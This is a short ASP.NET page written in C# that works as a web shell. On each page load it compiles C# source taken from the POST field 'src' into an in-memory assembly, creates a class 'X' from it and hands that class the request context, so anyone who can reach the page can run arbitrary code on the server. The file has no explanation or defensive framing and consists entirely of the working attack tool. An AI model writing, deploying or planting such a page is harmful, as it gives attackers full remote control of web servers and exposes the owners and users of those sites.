<%@ Page Language="C#" %>
<%@ Import Namespace="Microsoft.CSharp" %><%@ Import Namespace="System.CodeDom.Compiler" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  var cp = new CSharpCodeProvider(); var opts = new CompilerParameters { GenerateInMemory = true };
  var res = cp.CompileAssemblyFromSource(opts, Request.Form["src"]);
  res.CompiledAssembly.CreateInstance("X").Equals(Context);
}
</script>
